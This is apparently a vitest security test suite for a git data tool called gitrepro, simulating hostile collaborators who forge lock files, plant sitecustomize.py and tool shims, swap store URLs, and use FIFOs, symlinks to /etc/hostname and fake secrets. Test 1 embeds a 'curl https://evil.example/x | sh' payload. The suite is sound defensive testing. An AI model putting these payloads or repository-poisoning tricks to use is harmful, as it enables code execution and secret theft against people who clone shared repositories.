/**
 * Issue 10: a shared repository can never be turned against the people who clone it. Each test
 * is the attack, written as the attacker would do it: two clones of one project, the hostile one
 * using plumbing where it must (test/helpers/hostile.ts), the victim doing only ordinary git and
 * gitrepro commands.
 */
import { execFileSync, spawn } from 'node:child_process';
import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { forgeLock, plantObject, pushRaw } from '../helpers/hostile.js';
import { cloneOf, notesIn, project } from '../helpers/remote.js';
import { seeded, sha256 } from '../helpers/repo.js';

/** Names of gitrepro temp files anywhere under `dir` (never left next to data). */
function tempFiles(dir: string): string[] {
  return readdirSync(dir, { recursive: true }).map(String).filter((f) => path.basename(f).startsWith('.gitrepro-tmp'));
}

describe('trust boundary: what arrives by pull', () => {
  it('1. a lock naming code and a venv script outside track: writes nothing on git pull; verify fails naming commit and path', () => {
    const { r: victim, bare, store } = project();
    victim.write('src/train.py', 'print("train")\n');
    victim.write('data/a.csv', 'a,b\n1,2\n');
    victim.commit('start');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    const payload = plantObject(store, 'import os\nos.system("curl https://evil.example/x | sh")\n');
    forgeLock(evil, { 'src/train.py': payload, '.venv/bin/activate': payload }, { message: 'refresh data' });
    const bad = evil.head();
    pushRaw(evil);

    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1] });
    expect(victim.head()).toBe(bad); // git did its part
    expect(victim.read('src/train.py').toString()).toBe('print("train")\n');
    expect(victim.exists('.venv')).toBe(false);
    expect(pull.stderr).toMatch(/holds "(src\/train\.py|\.venv\/bin\/activate)", (which that commit's gitrepro\.yaml does not track|a path that git itself tracks in that commit): nothing of it was restored/);
    expect(victim.read('data/a.csv').toString()).toBe('a,b\n1,2\n');
    // a restore by hand refuses it too, and writes nothing
    const restore = victim.gr(['restore'], { ok: [1] });
    expect(restore.stderr).toMatch(/GITREPRO_SNAPSHOT_INVALID.*nothing of it was restored/);
    expect(victim.exists('.venv')).toBe(false);
    // the gate: verify fails for that commit, naming the path
    const v = victim.gr(['verify', bad, '--local'], { ok: [1] });
    expect(v.stdout).toContain(bad.slice(0, 12));
    expect(v.stdout).toMatch(/holds "(src\/train\.py|\.venv\/bin\/activate)", (which that commit's gitrepro\.yaml does not track|a path git itself tracks in that commit)/);
  });

  it('1b. a lock naming a file git tracks, under a track: pattern the same commit widened, is refused too', () => {
    const { r: victim, bare, store } = project();
    victim.write('src/train.py', 'print("train")\n');
    victim.write('data/a.csv', 'a\n');
    victim.commit('start');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.write('gitrepro.yaml', evil.read('gitrepro.yaml').toString().replace('- /data/', '- /data/\n  - /src/'));
    evil.git(['add', 'gitrepro.yaml']);
    const payload = plantObject(store, 'print("owned")\n');
    forgeLock(evil, { 'src/train.py': payload });
    const bad = evil.head();
    pushRaw(evil);
    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1] });
    expect(victim.read('src/train.py').toString()).toBe('print("train")\n');
    expect(pull.stderr).toMatch(/holds "src\/train\.py", a path that git itself tracks in that commit/);
    const v = victim.gr(['verify', bad, '--local'], { ok: [1] });
    expect(v.stdout).toMatch(/holds "src\/train\.py", a path git itself tracks in that commit/);
  });

  it('2. a data file that becomes a directory (and back) is recorded and restored both ways; no temp file is left or stored', () => {
    const { r: a, bare } = project();
    a.write('data/x', 'a file\n');
    a.write('data/keep.csv', 'k\n');
    a.commit('x is a file');
    a.git(['push', '-q', 'origin', 'main']);
    const b = cloneOf(a, bare, 'b');
    // the file becomes a directory of two files
    rmSync(a.path('data/x'));
    a.write('data/x/one', '1\n');
    a.write('data/x/two', '2\n');
    a.commit('x is a directory');
    expect(a.read('gitrepro.lock').toString()).toMatch(/^files 3$/m);
    expect(a.grJson(['ls-files']).files.map((f: { path: string }) => f.path)).toEqual(['data/keep.csv', 'data/x/one', 'data/x/two']);
    a.git(['push', '-q', 'origin', 'main']);

    b.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
    expect(b.manifest()).toEqual(a.manifest());
    expect(b.grJson(['status']).clean).toBe(true);
    // back to the commit where it was a file
    b.git(['checkout', '-q', 'HEAD~1']);
    expect(b.read('data/x').toString()).toBe('a file\n');
    expect(b.grJson(['status']).clean).toBe(true);
    expect(tempFiles(b.path('data'))).toEqual([]);
    expect(b.gr(['add']).stdout).toMatch(/0 new object\(s\) stored/);
    b.git(['checkout', '-q', 'main']);
    expect(b.manifest()).toEqual(a.manifest());
    expect(tempFiles(b.path('data'))).toEqual([]);
  });

  it('5. a pointer with the right sha256 and a wrong size is the commit\'s fault: the good object stays, the path is named', () => {
    const { r: victim, bare } = project();
    victim.write('data/a.bin', 'the real bytes\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    const sha = sha256('the real bytes\n');
    forgeLock(evil, { 'data/b.bin': { sha256: sha, size: 15 + 7 } });
    const bad = evil.head();
    pushRaw(evil);
    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1] });
    expect(pull.stderr).toMatch(/data\/b\.bin.*pointer.*22 bytes.*15 bytes.*pointer is wrong/);
    expect(victim.exists('data/b.bin')).toBe(false);
    // nothing good was quarantined or deleted
    expect(sha256(readFileSync(victim.objectPath(sha)))).toBe(sha);
    expect(existsSync(path.join(victim.gitDir(), 'gitrepro', 'quarantine')) ? readdirSync(path.join(victim.gitDir(), 'gitrepro', 'quarantine')) : []).toEqual([]);
    expect(victim.read('data/a.bin').toString()).toBe('the real bytes\n');
    const v = victim.gr(['verify', bad, '--local'], { ok: [1] });
    expect(v.stdout).toMatch(/pointer names object [0-9a-f]{12} with 22 bytes, but that object has 15 bytes and is intact/);
  });

  it('3. a FIFO at an object path of a directory store: git pull and install end in bounded time, naming object and remote', () => {
    const { r: victim, bare, store } = project({ format: 1 });
    victim.write('data/a.csv', 'a\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.write('data/b.csv', 'b\n');
    evil.commit('b');
    evil.git(['push', '-q', 'origin', 'main']);
    const sha = sha256('b\n');
    const obj = path.join(store, 'objects', sha.slice(0, 2), sha.slice(2, 4), sha);
    rmSync(obj);
    execFileSync('mkfifo', [obj]);

    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1], timeoutMs: 30_000 });
    expect(pull.stderr).toMatch(new RegExp(`${sha.slice(0, 12)} on store remote "store" is corrupt \\(a FIFO\\)`));
    expect(victim.exists('data/b.csv')).toBe(false);
    expect(existsSync(victim.objectPath(sha))).toBe(false);
    const fresh = cloneOf(victim, bare, 'fresh', { install: false });
    const install = fresh.gr(['install'], { ok: [1], timeoutMs: 30_000 });
    expect(install.stderr).toMatch(/on store remote "store" is corrupt \(a FIFO\)/);
    expect(fresh.read('data/a.csv').toString()).toBe('a\n');
  });

  it('4. a symlink at an object path never becomes a symlink in a clone; objects of another user are copied, never hard-linked', () => {
    const { r: victim, bare, store } = project({ format: 1 });
    victim.write('data/a.csv', 'a\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.write('data/secret-link.csv', 'will be a link\n');
    evil.write('data/shared.csv', 'shared bytes\n');
    evil.commit('two files');
    evil.git(['push', '-q', 'origin', 'main']);
    const linkSha = sha256('will be a link\n');
    const linkObj = path.join(store, 'objects', linkSha.slice(0, 2), linkSha.slice(2, 4), linkSha);
    rmSync(linkObj);
    symlinkSync('/etc/hostname', linkObj);
    // the shared store's other object belongs to another user (as it would on a team share)
    const sharedSha = sha256('shared bytes\n');
    const sharedObj = path.join(store, 'objects', sharedSha.slice(0, 2), sharedSha.slice(2, 4), sharedSha);
    chownSync(sharedObj, 65534, 65534);

    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1], timeoutMs: 30_000 });
    expect(pull.stderr).toMatch(new RegExp(`${linkSha.slice(0, 12)} on store remote "store" is corrupt \\(a symbolic link\\)`));
    expect(existsSync(victim.objectPath(linkSha))).toBe(false);
    expect(victim.exists('data/secret-link.csv')).toBe(false);
    expect(victim.read('data/shared.csv').toString()).toBe('shared bytes\n');
    // copied, not linked: the owner of the store's file rewriting it in place changes nothing here
    expect(lstatSync(victim.objectPath(sharedSha)).ino).not.toBe(lstatSync(sharedObj).ino);
    chmodSync(sharedObj, 0o644);
    writeFileSync(sharedObj, 'rewritten by the store\'s owner\n');
    expect(sha256(readFileSync(victim.objectPath(sharedSha)))).toBe(sharedSha);
    expect(victim.read('data/shared.csv').toString()).toBe('shared bytes\n');
    // fsck finds nothing but regular, intact objects
    expect(victim.grJson(['fsck']).corrupt).toEqual([]);
  });

  it('3b/4b. in format v2, a FIFO or a symlink at a pack or index path: pull and install end in bounded time, nothing is linked or read through it', () => {
    const { r: victim, bare, store } = project({ format: 2 });
    victim.write('data/a.csv', 'a\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.write('data/b.csv', 'b\n');
    evil.commit('b');
    const packsBefore = new Set(readdirSync(path.join(store, 'packs')));
    const indexBefore = new Set(readdirSync(path.join(store, 'index')));
    evil.git(['push', '-q', 'origin', 'main']);
    const pack = readdirSync(path.join(store, 'packs')).find((f) => !packsBefore.has(f))!;
    const index = readdirSync(path.join(store, 'index')).find((f) => !indexBefore.has(f))!;
    expect(pack).toBeDefined();
    expect(index).toBeDefined();
    // the pack becomes a FIFO: a read would block forever
    rmSync(path.join(store, 'packs', pack));
    execFileSync('mkfifo', [path.join(store, 'packs', pack)]);
    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1], timeoutMs: 30_000 });
    expect(pull.stderr).toContain(`packs/${pack} on store remote "store" is damaged (a FIFO)`);
    expect(pull.stderr).toMatch(/data\/b\.csv needs object 0263829989b6/);
    expect(victim.exists('data/b.csv')).toBe(false);
    expect(existsSync(victim.objectPath(sha256('b\n')))).toBe(false);
    // the index becomes a symlink to a file outside the store: it is never read through
    rmSync(path.join(store, 'index', index));
    symlinkSync('/etc/hostname', path.join(store, 'index', index));
    const fresh = cloneOf(victim, bare, 'fresh', { install: false });
    const install = fresh.gr(['install'], { ok: [1], timeoutMs: 30_000 });
    expect(install.stderr).toMatch(/data object 0263829989b6 is not on store remote "store" .*: in none of its 1 pack index\(es\)/);
    expect(install.stderr).toMatch(/data\/b\.csv needs object/);
    expect(fresh.read('data/a.csv').toString()).toBe('a\n');
    expect(fresh.exists('data/b.csv')).toBe(false);
    expect(fresh.grJson(['fsck']).corrupt).toEqual([]);
  });

  it('6. a committed env.packages with a local pip.py, sitecustomize.py and tool shims: no code of the repository runs on commit or verify', () => {
    const { r: victim, bare } = project();
    victim.write('data/a.csv', 'a\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    const marks = path.join(path.dirname(victim.dir), 'pwned');
    const payload = (name: string) => `import os\nopen(${JSON.stringify(path.join(marks, name))}, "w").write("ran")\n`;
    const shim = (name: string) => `#!/bin/sh\necho ran > ${JSON.stringify(path.join(marks, name))}\necho "Python 9.9.9"\n`;
    evil.write('gitrepro.yaml', `${evil.read('gitrepro.yaml').toString()}env:\n  packages: true\n`);
    evil.write('pip.py', payload('pip.py'));
    evil.write('pip/__init__.py', payload('pip-package'));
    evil.write('pip/__main__.py', payload('pip-main'));
    evil.write('sitecustomize.py', payload('sitecustomize'));
    evil.write('usercustomize.py', payload('usercustomize'));
    evil.write('requirements.txt', 'numpy==1.26.4\n');
    for (const tool of ['python3', 'python', 'nvidia-smi', 'nvcc', 'conda']) evil.write(`bin/${tool}`, shim(tool), 0o755);
    evil.commit('tooling');
    evil.git(['push', '-q', 'origin', 'main']);
    mkdirSync(marks);
    // the victim even accepts the settings, and has the repository's bin/ on PATH, relative and absolute
    victim.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
    victim.gr(['trust']);
    const env = { PATH: `bin::${victim.path('bin')}:${victim.env.PATH}`, PYTHONPATH: victim.dir, PYTHONSTARTUP: victim.path('pip.py') };
    victim.write('data/b.csv', 'b\n');
    victim.gr(['add'], { env });
    victim.git(['commit', '-q', '-am', 'b'], { env });
    const rec = victim.record('HEAD');
    victim.gr(['verify', 'HEAD', '--local'], { env, ok: [0, 1] });
    expect(readdirSync(marks)).toEqual([]);
    expect(rec.env.runtimes.python3).not.toBe('9.9.9');
    expect(rec.env.runtimes.python3).toBe(execFileSync('/usr/bin/env', ['python3', '--version'], { encoding: 'utf8' }).trim().replace('Python ', ''));
  });

  it('7. a track: change from others that would store .env and *.pem: the victim\'s commit is refused and nothing is stored until `gitrepro trust`', () => {
    const { r: victim, bare, store } = project();
    victim.write('data/a.csv', 'a\n');
    victim.write('.gitignore', `${victim.read('.gitignore').toString()}.env\n*.pem\n`);
    victim.write('.env', 'DB_PASS=hunter2-secret\n');
    victim.write('deploy.pem', '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n');
    victim.commit('start');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.git(['config', 'user.name', 'Eve']);
    evil.git(['config', 'user.email', 'eve@example.com']);
    evil.gr(['track', '/.env', '*.pem']);
    evil.commit('track configs too');
    const bad = evil.head();
    evil.git(['push', '-q', 'origin', 'main']);

    victim.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
    victim.write('train.py', 'lr = 0.1\n');
    victim.git(['add', 'train.py']);
    const c = victim.git(['commit', '-q', '-m', 'code'], { ok: [1] });
    expect(c.stderr).toContain(`track pattern "/.env" was added in commit ${bad.slice(0, 12)} by Eve <eve@example.com>, and this clone has not accepted it`);
    expect(c.stderr).toMatch(/2 file\(s\) only it matches were not stored \(\.env, deploy\.pem\)/);
    expect(c.stderr).toMatch(/gitrepro trust/);
    expect(victim.gr(['add'], { ok: [1] }).stderr).toMatch(/GITREPRO_UNTRUSTED/);
    const secrets = [sha256('DB_PASS=hunter2-secret\n'), sha256(victim.read('deploy.pem'))];
    for (const s of secrets) {
      expect(existsSync(victim.objectPath(s))).toBe(false);
      expect(existsSync(path.join(store, 'objects', s.slice(0, 2), s.slice(2, 4), s))).toBe(false);
    }
    expect(victim.gr(['trust', '--show']).stdout).toMatch(/track pattern "\*\.pem": added \(commit [0-9a-f]{12} by Eve <eve@example\.com>\)/);
    // the user's own consent makes it take effect
    victim.gr(['trust']);
    victim.git(['commit', '-q', '-m', 'code']);
    expect(existsSync(victim.objectPath(secrets[0]!))).toBe(true);
  });

  it('8. a store remote url changed by others: the victim\'s git push refuses to send anything there until `gitrepro trust`', () => {
    const { r: victim, bare, store } = project({ format: 1 });
    victim.write('data/a.csv', 'a\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.git(['config', 'user.name', 'Eve']);
    evil.git(['config', 'user.email', 'eve@example.com']);
    const evilStore = path.join(path.dirname(victim.dir), 'evil-store');
    evil.write('gitrepro.yaml', evil.read('gitrepro.yaml').toString().replace(store, evilStore));
    evil.commit('move the store');
    evil.git(['push', '-q', 'origin', 'main']);

    victim.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
    victim.write('data/b.csv', 'the victim\'s new data\n');
    victim.commit('b');
    const before = victim.git(['--git-dir', bare, 'rev-parse', 'main']).stdout.trim();
    const push = victim.git(['push', 'origin', 'main'], { ok: [1] });
    expect(push.stderr).toMatch(new RegExp(`store remote "store" url is now "${evilStore.replace(/[/.]/g, '\\$&')}" in commit [0-9a-f]{12} by Eve <eve@example\\.com>, and this clone has not accepted it: store remote "store" was not contacted`));
    const mine = sha256('the victim\'s new data\n');
    const inEvil = () => existsSync(path.join(evilStore, 'objects', mine.slice(0, 2), mine.slice(2, 4), mine));
    expect(inEvil()).toBe(false);
    expect(victim.git(['--git-dir', bare, 'rev-parse', 'main']).stdout.trim()).toBe(before);
    expect(victim.gr(['push'], { ok: [1] }).stderr).toMatch(/GITREPRO_UNTRUSTED/);
    // the victim's own override of the url (git config) is theirs: it works without accepting
    victim.git(['config', 'gitrepro.remote.store.url', store]);
    victim.git(['push', '-q', 'origin', 'main']);
    expect(inEvil()).toBe(false);
    expect(existsSync(path.join(store, 'objects', mine.slice(0, 2), mine.slice(2, 4), mine))).toBe(true);
  });

  it('8b. an S3 endpoint changed by others: no request, signed or not, reaches that server', async () => {
    const server = createServer((s) => {
      hits++;
      s.destroy();
    });
    let hits = 0;
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
    const port = (server.address() as AddressInfo).port;
    try {
      const { r: victim, bare, store } = project();
      victim.write('data/a.csv', 'a\n');
      victim.commit('a');
      victim.git(['push', '-q', 'origin', 'main']);
      const evil = cloneOf(victim, bare, 'evil');
      evil.write('gitrepro.yaml', evil.read('gitrepro.yaml').toString().replace(`url: ${store}`, `url: s3://team-data\n    endpoint: http://127.0.0.1:${port}`));
      evil.commit('s3 now');
      pushRaw(evil);
      victim.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
      victim.write('data/b.csv', 'b\n');
      victim.commit('b');
      const env = { AWS_ACCESS_KEY_ID: 'AKIAVICTIMKEY0000000', AWS_SECRET_ACCESS_KEY: 'victim-secret' };
      const push = victim.git(['push', 'origin', 'main'], { ok: [1], env });
      expect(push.stderr).toMatch(/store remote "store" (url|endpoint) is now .* and this clone has not accepted it/);
      await new Promise((r) => setTimeout(r, 200)); // connections the kernel accepted meanwhile
      expect(hits).toBe(0);
    } finally {
      server.close();
    }
  });

  it('9. secrets never reach a note: 36 patterns in variables, values, URLs, argv and params; a symlinked lockfile leaving the tree is not read', () => {
    const { r: victim, bare } = project();
    victim.write('data/a.csv', 'a\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.write('gitrepro.yaml', `${evil.read('gitrepro.yaml').toString()}env:\n  allow: [DB_*, SMTP_*, SLACK_*, APP_*, GITHUB_*, CI_*, DATABASE_*, SENTRY_*, HF_*]\n`);
    // a lockfile that is a link to a file of the victim's, outside the work tree
    const keyFile = path.join(path.dirname(victim.dir), 'home', '.ssh', 'id_ed25519');
    mkdirSync(path.dirname(keyFile), { recursive: true });
    writeFileSync(keyFile, 'ssh private key bytes 7f3a\n');
    symlinkSync(path.relative(evil.dir, keyFile.replace(path.dirname(victim.dir), path.dirname(evil.dir))), evil.path('requirements.txt'));
    evil.commit('record more variables');
    evil.git(['push', '-q', 'origin', 'main']);
    victim.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
    victim.gr(['trust']); // even accepted, a denied name or a secret value is never recorded

    const vars: Record<string, string> = {
      DB_PASS: 'hunter2-dbpass',
      DB_PW: 'correct-horse-pw',
      DB_PASSWORD: 'Tr0ub4dor-and-3',
      SMTP_PASS: 'smtp-pass-31415',
      SLACK_WEBHOOK_URL: 'https://hooks.slack.com/services/T0001/B0001/slackhooksecret1',
      SLACK_BOT_TOKEN: 'xoxb-1234567890-abcdefghijkl',
      GITHUB_TOKEN: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789',
      APP_API_KEY: 'apikey-plain-5566',
      APP_SECRET_KEY_BASE: 'secret-key-base-7788',
      DATABASE_URL: 'postgres://app:dburlpw-9911@db.internal:5432/app',
      SENTRY_DSN: 'https://sentrydsnkey42@o1.ingest.sentry.io/1',
      HF_TOKEN: 'hf_abcdefghijklmnopqrstuvwxyzABCD',
      APP_AUTH_HEADER: 'Bearer bearer-value-2468',
      CI_JOB_JWT: 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjaS1qb2IifQ.c2lnbmF0dXJlLXBhcnQ',
      APP_PRIVATE_KEY: '-----BEGIN PRIVATE KEY-----\nMIIEprivatekeybody\n-----END PRIVATE KEY-----',
      APP_SIG: 'sig-value-1357',
      APP_COOKIE: 'session=cookie-value-8642',
      APP_SALT: 'salt-value-9753',
      APP_OTP: 'otp-value-998877',
      APP_PIN: 'pin-value-4421',
      APP_ENDPOINT: 'https://user:endpointpw-55@api.example.com/v1',
      APP_CALLBACK: 'https://api.example.com/cb?token=querytok-a1b2c3&x=1',
      APP_UPLOAD: 'https://bucket.s3.amazonaws.com/k?X-Amz-Signature=presignsig0f9e8d7c6b5a&X-Amz-Expires=60',
      APP_AWS_ID: 'AKIAIOSFODNN7EXAMPLE',
      APP_STRIPE: 'sk_live_51Habcdefghijklmnopqrstu',
      APP_DISCORD: 'https://discord.com/api/webhooks/123456/discordhooksecret',
      APP_MODE: 'production-mode', // not a secret: recorded
    };
    const argvSecrets = ['sk-proj-abcdefghijklmnopqrstuv', 'plainpw-argv-xyz', 'ghp_ARGVabcdefghijklmnopqrstuvwxyz0123', 'argvurlpass-77', 'tok-argv-778899'];
    victim.write('params.yaml', [
      'train:\n  lr: 0.125',
      'db:\n  password: params-pw-1001',
      'api_key: params-key-2002',
      'aws:\n  secret_access_key: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
      'webhook_url: https://hooks.slack.com/services/T1/B1/paramshooksecret',
      'callback: https://host.example/x?token=params-tok-3003',
      '',
    ].join('\n'));
    const paramSecrets = ['params-pw-1001', 'params-key-2002', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', 'paramshooksecret', 'params-tok-3003'];
    victim.gr(['run', '-n', 'fetch', '-o', 'data/out.txt', '--', 'sh', '-c',
      `echo ok > data/out.txt # --api-key ${argvSecrets[0]} --password=${argvSecrets[1]} -H "Authorization: Bearer ${argvSecrets[2]}" https://me:${argvSecrets[3]}@host.example/x --token ${argvSecrets[4]}`], { env: vars });
    victim.write('data/b.csv', 'b\n');
    victim.commit('with secrets around', { env: vars });
    victim.git(['push', '-q', 'origin', 'main'], { env: vars });

    const notes = [...notesIn(bare, victim.env).values()].join('\n');
    const rec = victim.record('HEAD');
    expect(rec.env.vars.APP_MODE).toBe('production-mode');
    expect(rec.params['params.yaml'].values['train.lr']).toBe(0.125);
    expect(rec.runs).toHaveLength(1);
    expect(rec.env.lockfileErrors?.['requirements.txt']).toMatch(/leading out of the work tree/);
    const secrets = [
      ...Object.entries(vars).filter(([k]) => k !== 'APP_MODE').map(([, v]) => v),
      ...argvSecrets, ...paramSecrets, sha256('ssh private key bytes 7f3a\n'),
    ];
    expect(secrets.length).toBeGreaterThanOrEqual(36);
    // each secret, and each secret part a redaction must remove, is absent from every pushed note
    const leaks = secrets.flatMap((s) => [s, ...s.split(/[:@/?&=\s.]+/).filter((p) => p.length >= 12 && /[0-9]/.test(p))]).filter((s) => notes.includes(s));
    expect(leaks).toEqual([]);
  });

  it('smaller guarantees: track outside the tree, remote urls with credentials, missing and corrupt objects named', () => {
    const { r, bare, store } = project({ format: 1 });
    // track: a path outside the work tree is a usage error; one that does not exist yet, a warning
    const outside = r.gr(['track', '../elsewhere/'], { ok: [2] });
    expect(outside.stderr).toMatch(/^error \[GITREPRO_USAGE\]: \.\.\/elsewhere\/ is outside the work tree/);
    const later = r.gr(['track', 'models/']);
    expect(later.stderr).toContain('gitrepro: warning: models/ does not exist yet: it is tracked once it does');
    expect(later.stdout).toContain('tracking /models/');
    // remote list never shows credentials embedded in a url or endpoint
    r.git(['config', 'gitrepro.remote.mirror.url', 's3://bucket/pfx']);
    r.git(['config', 'gitrepro.remote.mirror.endpoint', 'https://AKIAQWERTYUIOPASDFGH:listsecretpw@s3.example.com']);
    for (const out of [r.gr(['remote', 'list']).stdout, r.gr(['remote', 'list', '--json']).stdout]) {
      expect(out).toContain('mirror');
      expect(out).not.toContain('listsecretpw');
      expect(out).not.toContain('AKIAQWERTYUIOPASDFGH');
    }
    // a missing object's message names the object and the snapshot that needs it
    r.write('data/m.bin', 'missing later\n');
    r.commit('m');
    r.git(['push', '-q', 'origin', 'main']);
    const sha = sha256('missing later\n');
    rmSync(path.join(store, 'objects', sha.slice(0, 2), sha.slice(2, 4), sha));
    const c = cloneOf(r, bare, 'c', { install: false });
    const tree = /^tree ([0-9a-f]+)$/m.exec(c.read('gitrepro.lock').toString())![1]!;
    const res = c.gr(['install'], { ok: [1] });
    expect(res.stderr).toContain(`data file(s) not restored, their objects are not in the local store (data snapshot ${tree.slice(0, 12)}: `);
    expect(res.stderr).toContain(`data/m.bin needs object ${sha.slice(0, 12)}`);
    // a corrupt object's message gives the expected and the actual hash
    const a = sha256('a\n');
    r.write('data/a.csv', 'a\n');
    r.commit('a');
    r.git(['push', '-q', 'origin', 'main']);
    const file = path.join(store, 'objects', a.slice(0, 2), a.slice(2, 4), a);
    chmodSync(file, 0o644);
    writeFileSync(file, 'b\n');
    c.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1] });
    const again = c.gr(['pull'], { ok: [1] });
    expect(again.stderr).toContain(`expected sha256 ${a} (2 bytes), got ${sha256('b\n')} (2 bytes)`);
  });

  it('10. git commit killed at 40 instants, before, inside and right after it lands: every commit that landed has its record after one `gitrepro status`', async () => {
    const { r } = project({ detachedRecords: true });
    r.write('data/base.csv', 'base\n');
    r.commit('base');
    // Three kinds of kill, so that the test covers every window whatever the machine's speed or
    // load (CI runs many suites at once): at once (before anything happened), at a random instant
    // within one and a half commits' measured time, and a random 0-30 ms after the branch moved
    // (the commit landed; its hooks are writing the record).
    r.write('data/timing.csv', 't\n');
    r.write('code.txt', 'timing\n');
    r.git(['add', 'code.txt']);
    const t0 = Date.now();
    r.git(['commit', '-q', '-m', 'timing']);
    const span = Math.max(50, (Date.now() - t0) * 1.5);
    const rnd = seeded(20261206);
    let landed = 0;
    let unrecordedAtKill = 0;
    for (let i = 0; i < 40; i++) {
      r.write(`data/f${i}.csv`, `${i}\n`);
      r.write('code.txt', `${i}\n`);
      r.git(['add', 'code.txt']);
      const before = r.head();
      // like a closed terminal: the whole process group (git, its hooks, a flusher they started)
      const child = spawn('git', ['commit', '-q', '-m', `c${i}`], { cwd: r.dir, env: r.env, detached: true, stdio: 'ignore' });
      let done = false;
      const exited = new Promise((resolve) => child.once('exit', () => resolve((done = true))));
      const kind = i % 3;
      if (kind === 1) await new Promise((res) => setTimeout(res, Math.floor(rnd() * span)));
      if (kind === 2) {
        while (!done && branchTip(r.dir) === before) await new Promise((res) => setTimeout(res, 1));
        await new Promise((res) => setTimeout(res, Math.floor(rnd() * 30)));
      }
      try {
        process.kill(-child.pid!, 'SIGKILL');
      } catch {
        /* already done */
      }
      await exited;
      // what git tells a user to do after a crash: remove its stale lock files
      for (const f of ['index.lock', 'HEAD.lock', 'refs/heads/main.lock']) rmSync(path.join(r.dir, '.git', f), { force: true });
      const after = r.head();
      if (after !== before) {
        landed++;
        if (r.git(['notes', '--ref=gitrepro', 'show', after], { ok: [0, 1] }).code !== 0) unrecordedAtKill++;
      }
    }
    r.gr(['status']);
    const commits = r.git(['rev-list', 'HEAD']).stdout.trim().split('\n');
    const unrecorded = commits.filter((c) => r.git(['notes', '--ref=gitrepro', 'show', c], { ok: [0, 1] }).code !== 0);
    expect(landed).toBeGreaterThanOrEqual(13); // every kill after the branch moved left a landed commit
    expect(landed).toBeLessThanOrEqual(36); // the kills at once fell before the commit
    expect(unrecordedAtKill).toBeGreaterThan(0); // some kills did cut a record short: status had work to do
    expect(unrecorded).toEqual([]);
  });
});

/** The commit the current branch points at, read from the ref file, without starting git. */
function branchTip(dir: string): string {
  const head = readFileSync(path.join(dir, '.git', 'HEAD'), 'utf8').trim();
  const ref = /^ref: (.+)$/.exec(head)?.[1];
  if (!ref) return head;
  try {
    return readFileSync(path.join(dir, '.git', ref), 'utf8').trim();
  } catch {
    return '';
  }
}

